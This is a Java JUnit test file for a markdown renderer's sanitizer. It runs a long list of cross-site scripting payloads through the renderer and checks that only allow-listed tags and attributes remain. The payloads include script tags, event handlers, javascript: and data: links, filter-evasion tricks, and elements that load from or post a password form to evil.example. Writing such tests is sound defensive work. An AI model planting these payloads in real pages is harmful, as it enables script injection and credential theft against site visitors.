package org.qihang.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SanitizingTests {

    private static final Pattern TAG = Pattern.compile("<(/?)([^\\s/>]+)([^>]*)>");
    private static final Pattern ATTRIBUTE = Pattern.compile("\\s([^\\s=/]+)(?:=\"([^\"]*)\")?");
    private static final Set<String> TAGS = Set.of(
            "p",
            "h1",
            "h2",
            "h3",
            "ul",
            "ol",
            "li",
            "a",
            "img",
            "em",
            "strong",
            "code",
            "pre",
            "br",
            "blockquote",
            "div",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "aside",
            "details",
            "summary",
            "figure",
            "figcaption",
            "abbr",
            "kbd");
    private static final Set<String> ATTRIBUTES = Set.of(
            "href",
            "rel",
            "title",
            "src",
            "alt",
            "loading",
            "data-p",
            "id",
            "class",
            "tabindex",
            "role",
            "open",
            "align",
            "router-ignore");

    // Whatever a text asks for, it gets: the renderer must not rely on its caller's addresses
    private final Markdown markdown = Markdown.lesson(Locale.ENGLISH, Target::page);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "a <script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "a <img src=x onerror=alert(1)> b",
                "<img src='x' onerror='alert(1)'//",
                "<svg/onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
                "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
                "<abbr title=\"x\" onmouseover=\"alert(1)\">a</abbr>",
                "a <abbr title='\" onmouseover=\"alert(1)'>a</abbr>",
                "<kbd style=\"background:url(javascript:alert(1))\">k</kbd>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<object data=\"javascript:alert(1)\"></object><embed src=\"x\">",
                "<form action=\"https://evil.example\"><input name=password></form>",
                "<base href=\"https://evil.example/\">",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<a href=\"javascript:alert(1)\">a</a>",
                "<div id=\"outlet\" class=\"callout note\">x</div>",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<textarea><img src=x onerror=alert(1)></textarea>",
                "<!--><script>alert(1)</script>-->",
                "<!--\n--!><img src=x onerror=alert(1)>\n-->",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<kbd<script>alert(1)</script>",
                "<<script>script>alert(1)<</script>/script>",
                "<x onclick=alert(1)>a</x>",
                "<\u0000script>alert(1)</script>",
                "[a](javascript:alert(1))",
                "[a](JaVaScRiPt:alert(1))",
                "[a](javascript&colon;alert(1))",
                "[a](java&#x0A;script:alert(1))",
                "[a](&#106;avascript:alert(1))",
                "[a](\u0001javascript:alert(1))",
                "[a](< javascript:alert(1)>)",
                "[a](<java\tscript:alert(1)>)",
                "[a](vbscript:msgbox(1))",
                "[a](data:text/html;base64,PHNjcmlwdD4=)",
                "[a](blob:https://x/1)",
                "[a](file:///etc/passwd)",
                "[a][b]\n\n[b]: javascript:alert(1)",
                "<javascript:alert(1)>",
                "<data:text/html,x>",
                "![a](javascript:alert(1))",
                "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
                "![\"onerror=\"alert(1)](x.png)",
                "![a](x.png \"t\\\" onerror=\\\"alert(1)\")",
                "![a](\"onerror=\"alert(1))",
                "![a](//evil.example/x.png)",
                "[a](https://x.example/\"onclick=\"alert(1))",
                "[a](x \"t\" onclick=alert(1))",
                "```x\"onclick=\"alert(1)\nx\n```",
                "```\"><script>alert(1)</script>\nx\n```",
                "# a\" onclick=\"alert(1)\n",
                "| a\" onclick=\"x |\n|---|\n| <script>alert(1)</script> |",
                "> [!NOTE\" onclick=\"x]\n> a",
                "1. <li onclick=x>\n2. </ol></ul><script>alert(1)</script>",
                "`<script>alert(1)</script>`",
                "    <script>alert(1)</script>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "\\<script>alert(1)</script>",
                "https://x.example/\"onmouseover=\"alert(1)",
                "www.x.example/<script>alert(1)</script>",
                "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            })
    void nothingButHarmlessTagsGetsOut(String source) {
        var html = markdown.render(source).html();
        var tags = TAG.matcher(html);
        while (tags.find()) {
            assertThat(TAGS).contains(tags.group(2));
            var attributes = ATTRIBUTE.matcher(tags.group(3));
            while (attributes.find()) {
                assertThat(ATTRIBUTES).contains(attributes.group(1));
                if (attributes.group(1).equals("href")) {
                    assertThat(attributes.group(2)).matches("(?i)(https?:|mailto:|tel:|//|[^:]*$|[^:]*[/?#%].*).*");
                }
                if (attributes.group(1).equals("src")) {
                    assertThat(attributes.group(2)).doesNotStartWith("//").matches("[^:]*");
                }
            }
        }
        assertThat(TAG.matcher(html).replaceAll("")).doesNotContain("<");
    }

    @Test
    void whatLooksLikeMarkupInTextStaysText() {
        assertThat(markdown.render("`<script>` and \\<b> and &lt;i&gt;").html())
                .isEqualTo("<p data-p=\"1\"><code>&lt;script&gt;</code> and &lt;b&gt; and &lt;i&gt;</p>\n");
    }

    @Test
    void tagsThatAreLeftOpenEndWithTheText() {
        assertThat(markdown.render("<details>\n\na <kbd>b").html())
                .isEqualTo("<details>\n<p data-p=\"2\">a <kbd>b</kbd></p>\n</details>");
    }
}
